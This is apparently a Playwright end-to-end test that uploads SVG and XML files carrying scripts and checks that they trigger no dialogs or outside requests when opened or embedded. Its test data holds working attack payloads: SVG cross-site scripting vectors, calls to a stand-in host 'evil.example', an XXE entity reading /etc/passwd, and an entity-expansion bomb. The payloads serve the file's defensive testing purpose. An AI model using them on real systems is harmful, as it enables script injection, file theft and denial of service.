// Pictures and documents that contain scripts are accepted as files, but run nothing wherever they are opened (S-52).

import { scriptPayloads } from '../api/src/testing/scriptPayloads'

import { signInOn } from './people'
import { watchRequests } from './screens'
import { expect, test, type APIRequestContext } from './test'

const SVG =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const evil = 'https://evil.example/x'

const own = [
  `<svg ${SVG} onload="alert(1)"/>`,
  `<svg ${SVG}><script>alert(1)</script></svg>`,
  `<svg ${SVG}><script href="${evil}.js"/></svg>`,
  `<svg ${SVG}><script xlink:href="data:text/javascript,alert(1)"/></svg>`,
  `<svg ${SVG}><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>`,
  `<svg ${SVG}><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>`,
  `<svg ${SVG}><set attributeName="onmouseover" to="alert(1)"/></svg>`,
  `<svg ${SVG}><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/svg&gt;#x"/></svg>`,
  `<svg ${SVG}><image href="${evil}.png"/></svg>`,
  `<svg ${SVG}><style>@import url(${evil}.css);</style></svg>`,
  `<svg ${SVG}><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>`,
  `<?xml version="1.0"?><?xml-stylesheet href="${evil}.xsl" type="text/xsl"?><svg ${SVG}/>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${SVG}><text>&x;</text></svg>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "${evil}">]><svg ${SVG}><text>&x;</text></svg>`,
  `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><svg ${SVG}><text>&c;&c;</text></svg>`,
]

/** Every payload of S-61, wrapped as a picture and as a document. */
const wrapped = scriptPayloads
  .slice(0, 60)
  .map((markup, index) =>
    index % 2
      ? `<svg ${SVG}><foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml">${markup}</body></foreignObject></svg>`
      : `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${markup}</body></html>`
  )

const upload = async (
  request: APIRequestContext,
  token: string,
  name: string,
  text: string
) => {
  const content = Buffer.from(text)
  const headers = {
    authorization: `Bearer ${token}`,
    'tus-resumable': '1.0.0',
  }
  const created = await request.post('/api/uploads', {
    headers: {
      ...headers,
      'upload-length': String(content.length),
      'upload-metadata': `filename ${Buffer.from(name).toString('base64')}`,
    },
  })
  expect(created.status()).toBe(201)
  const answer = await request.patch(created.headers().location, {
    headers: {
      ...headers,
      'content-type': 'application/offset+octet-stream',
      'upload-offset': '0',
    },
    data: content,
  })
  expect(answer.status()).toBe(200)
  return (await answer.json()).url as string
}

test('A file with a script in it runs nothing (S-52)', async ({ page }) => {
  const { request } = page
  await signInOn(page, 'admin@example.com')
  const token = await (await request.get('/api/auth?method=getToken')).text()
  const events: string[] = []
  page.on('dialog', async (dialog) => {
    events.push(`dialog ${dialog.message()}`)
    await dialog.dismiss()
  })
  page.on('request', (sent) => {
    if (!/^(http:\/\/localhost|data:|blob:)/.test(sent.url()))
      events.push(sent.url())
  })

  const settled = watchRequests(page)
  const urls: string[] = []
  for (const text of [...own, ...wrapped]) {
    const isPicture = text.includes('<svg ')
    urls.push(await upload(request, token, isPicture ? 'a.svg' : 'a.xml', text))
  }
  expect(urls.length).toBeGreaterThanOrEqual(60)

  await page.goto('/changelog')
  for (const url of urls) {
    // Opened by its address, the file is a download; embedded as a picture or frame, it runs nothing.
    await page.goto(url).catch((error) => {
      expect(String(error)).toMatch(/Download is starting|ERR_ABORTED/)
    })
    const shown = await page.evaluateHandle(
      (src) =>
        ['img', 'iframe', 'object', 'embed'].map((tag) => {
          const element = document.createElement(tag)
          element.setAttribute(tag === 'object' ? 'data' : 'src', src)
          document.body.append(element)
          return element
        }),
      url
    )
    await settled()
    await shown.evaluate((elements) =>
      elements.forEach((element) => element.remove())
    )
  }
  expect(events).toEqual([])
})
